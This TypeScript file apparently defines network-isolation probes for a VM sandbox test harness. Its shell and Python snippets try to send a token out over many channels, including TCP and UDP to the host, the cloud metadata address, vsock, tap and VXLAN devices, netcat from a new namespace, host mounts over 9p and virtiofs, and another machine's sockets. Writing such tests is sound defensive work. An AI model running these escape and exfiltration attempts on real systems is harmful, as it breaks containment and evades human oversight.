import type { Category, ProbeAttempt } from '../attempt.ts';

const tcp = (name: string, host: string, port: string): ProbeAttempt => ({ name, probe: { kind: 'tcp', host, port } });
const udp = (name: string, host: string, port: string, send?: string): ProbeAttempt => ({
  name,
  probe: { kind: 'udp', host, port, ...(send === undefined ? {} : { send }) },
});
const sh = (name: string, script: string, sign?: RegExp): ProbeAttempt => ({
  name,
  probe: { kind: 'sh', script },
  ...(sign ? { through: ({ text }) => sign.exec(text)?.[0] ?? null } : {}),
});
const py = (name: string, code: string, sign?: RegExp): ProbeAttempt => ({
  name,
  probe: { kind: 'py', code },
  ...(sign ? { through: ({ text }) => sign.exec(text)?.[0] ?? null } : {}),
});

/** A query for `{token}.example.com`, type A: a name server that saw it would know the token. */
const DNS_QUERY = '\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x11{token}\x07example\x03com\x00\x00\x01\x00\x01';

/** Sends to this host over a device that the guest makes itself; made-up neighbours, so that nothing waits for an answer to ARP. */
const overDevice = (name: string, device: string, setUp: string) =>
  py(
    name,
    `os.system('(${setUp}) >/dev/null 2>&1')
if not os.path.exists('/sys/class/net/${device}'): raise RuntimeError('no device')
os.system('(ip link set ${device} up; ip addr add 198.51.100.9/24 dev ${device}; ip route add {lan}/32 dev ${device} table 77;'
  'ip rule add oif ${device} table 77; ip neigh replace {lan} lladdr 02:00:00:00:00:01 dev ${device}) >/dev/null 2>&1')
try:
  for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
    s = socket.socket(socket.AF_INET, kind); s.settimeout(2); s.setsockopt(socket.SOL_SOCKET, 25, b'${device}')
    try: s.connect(('{lan}', {bait})); s.send(b'{token}'); say('sent')
    except OSError as error: say(repr(error))
finally: os.system('ip link del ${device} 2>/dev/null')`,
  );

/** Everything with a device behind it is hardware; what the guest makes itself has none. */
const NICS = 'for nic in /sys/class/net/*; do [ -e $nic/device ] && echo "nic: $nic"; done';

export const network: Category = {
  name: 'network',
  about: 'sockets of every kind, own network devices, host file systems, without the proxy',
  attempts: [
    tcp('TCP to the host', '{lan}', '{bait}'),
    tcp('TCP to the host, IPv6-mapped', '::ffff:{lan}', '{bait}'),
    tcp('TCP to the gateway of QEMU’s user network', '10.0.2.2', '{bait}'),
    tcp('TCP to the host’s loopback', '127.0.0.1', '{bait}'),
    tcp('TCP to the host’s loopback, IPv6', '::1', '{bait}'),
    tcp('TCP to hostd', '127.0.0.1', '{hostd}'),
    tcp('TCP to hostd by the host’s address', '{lan}', '{hostd}'),
    tcp('TCP to PostgreSQL’s port', '{lan}', '5432'),
    tcp('TCP to the metadata address', '169.254.169.254', '80'),
    tcp('TCP to a public address', '1.1.1.1', '443'),
    tcp('DNS over TCP', '1.1.1.1', '53'),
    udp('UDP to the host', '{lan}', '{bait}'),
    udp('UDP to all of a network', '255.255.255.255', '{bait}'),
    udp('DNS over UDP', '8.8.8.8', '53', DNS_QUERY),
    udp('DNS over UDP to the host', '{lan}', '53', DNS_QUERY),
    udp('QUIC', '1.1.1.1', '443'),
    py('a name through the resolver', "say(socket.getaddrinfo('example.com', 80))", /\('\d+\.\d+/),
    py(
      'ICMP to the host',
      `s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(2)
s.sendto(struct.pack('!BBHHH', 8, 0, 0xf7fe, 1, 0), ('{lan}', 0))
say('reply: %r' % s.recv(200)[20:21])`,
      /reply: b'\\x00'/,
    ),
    py(
      'raw IP to the host',
      `s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253)
s.sendto(b'{token}', ('{lan}', 0)); say('sent')`,
    ),
    py(
      'frames on a packet socket',
      `for _, name in socket.if_nameindex():
  s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); s.bind((name, 0))
  s.send(b'\\xff' * 6 + b'\\x02\\x00\\x00\\x00\\x00\\x01' + b'\\x08\\x00' + b'{token}'); say('sent on ' + name)`,
    ),
    py(
      'vsock to the host',
      `os.system('modprobe -a vsock vmw_vsock_virtio_transport vsock_loopback 2>/dev/null')
for cid in (0, 2):
  s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.settimeout(3)
  try: s.connect((cid, {bait})); s.send(b'{token}'); say('connected: %d' % cid)
  except OSError as error: say(repr(error))`,
      /connected: \d+/,
    ),
    py(
      'SCTP, DCCP and UDP-Lite to the host',
      `for kind, protocol in ((1, 132), (6, 33), (2, 136)):
  try:
    s = socket.socket(socket.AF_INET, kind, protocol); s.settimeout(2); s.connect(('{lan}', {bait})); s.send(b'{token}'); say('sent')
  except OSError as error: say(repr(error))`,
    ),
    py(
      'unix sockets of the other machine by the host’s paths',
      `for name in ('ssh.sock', 'qga.sock', 'qmp.sock'):
  s = socket.socket(socket.AF_UNIX)
  try: s.connect('{sockets}/{victim}/' + name); say('connected: ' + name)
  except OSError as error: say(repr(error))`,
      /connected: .*/,
    ),
    py(
      'serial ports beyond its own two',
      `major = int([line.split()[0] for line in open('/proc/devices') if 'virtio-portsdev' in line][0])
for minor in range(64):
  path = '/root/vport%d' % minor
  os.mknod(path, 0o20600, os.makedev(major, minor))
  try:
    os.write(os.open(path, os.O_RDWR | os.O_NONBLOCK), b'{token}')
    say('opened: %d' % minor)
  except OSError as error: say(repr(error))
  os.unlink(path)`,
      /opened: (?![012]$)\d+/m,
    ),
    overDevice('a dummy device as a way out', 'escape0', 'modprobe dummy; ip link add escape0 type dummy'),
    overDevice(
      'a tap device as a way out',
      'escape1',
      'modprobe tun; mkdir -p /dev/net; mknod /dev/net/tun c 10 200; ip tuntap add escape1 mode tap',
    ),
    overDevice('a veth pair as a way out', 'escape2', 'ip link add escape2 type veth peer name escape3; ip link set escape3 up'),
    overDevice('a bridge as a way out', 'escape4', 'ip link add escape4 type bridge; ip link set lo master escape4'),
    overDevice('a VXLAN tunnel to the host', 'escape5', 'ip link add escape5 type vxlan id 7 remote {lan} dstport {bait}'),
    overDevice(
      'an address of the host on a device of its own',
      'escape6',
      'ip link add escape6 type dummy; ip addr add {lan}/32 dev escape6',
    ),
    sh(
      'a namespace that the machine forwards for, as containers have it',
      `ip netns add escape7; ip link add escape7 type veth peer name escape8 netns escape7; echo 1 >/proc/sys/net/ipv4/ip_forward
      ip addr add 10.9.7.1/30 dev escape7; ip link set escape7 up; ip -n escape7 addr add 10.9.7.2/30 dev escape8
      ip -n escape7 link set escape8 up; ip -n escape7 route add default via 10.9.7.1
      for to in '{lan} {bait}' '10.0.2.2 {bait}' '10.9.7.1 {bait}' '169.254.169.254 80' '1.1.1.1 443'; do
        printf '{token}' | ip netns exec escape7 busybox nc -w 5 $to
      done 2>&1
      ip netns exec escape7 busybox ping -c 1 -W 5 10.9.7.1 >/dev/null && echo tried; ip netns del escape7`,
    ),
    sh(
      'drivers of network cards',
      `modprobe -a virtio_net e1000 e1000e vmxnet3 ne2k-pci 8139cp 2>&1 | tail -n 3; ${NICS}; echo tried`,
      /nic: .*/,
    ),
    sh('network cards by a new look at the bus', `echo 1 >/sys/bus/pci/rescan; ${NICS}; echo tried`, /nic: .*/),
    sh(
      'SLIP over the console',
      'modprobe slip 2>&1; stty -F /dev/ttyS0 line 1 2>&1; printf "\\300{token}\\300" >/dev/ttyS0; stty -F /dev/ttyS0 line 0 2>&1; echo tried',
    ),
    sh(
      'host directories over 9p and virtiofs',
      `modprobe -a 9p 9pnet_virtio virtiofs 2>&1 | tail -n 3; mkdir -p /root/m
      for tag in host share warren; do
        mount -t 9p -o trans=virtio $tag /root/m 2>/dev/null && echo "mounted: 9p $tag"
        mount -t virtiofs $tag /root/m 2>/dev/null && echo "mounted: virtiofs $tag"
      done; cat {file} 2>&1; echo; echo tried`,
      /mounted: .*/,
    ),
    sh(
      'shared memory and disks of others',
      `for device in /sys/bus/pci/devices/*; do echo "device: $(cat $device/vendor $device/device $device/class | tr '\\n' ' ')"; done
      for disk in /sys/block/*; do [ -e $disk/device ] && echo "disk: \${disk##*/}"; done; echo tried`,
      // Shared memory and host bridges apart from the chipset's, and any disk beyond its own.
      /device: 0x1af4 0x1110.*|disk: (?!vda$).*/m,
    ),
  ],
  controls: [
    {
      name: 'the same TCP probe, to something in the machine that answers the secret',
      probe: {
        kind: 'py',
        code: `import threading
server = socket.create_server(('127.0.0.1', 0))
def serve():
  peer, _ = server.accept(); peer.sendall(open('/root/control').read().encode()); peer.close()
threading.Thread(target=serve).start()
s = socket.create_connection(server.getsockname()); say(s.recv(4096).decode())`,
      },
    },
  ],
};
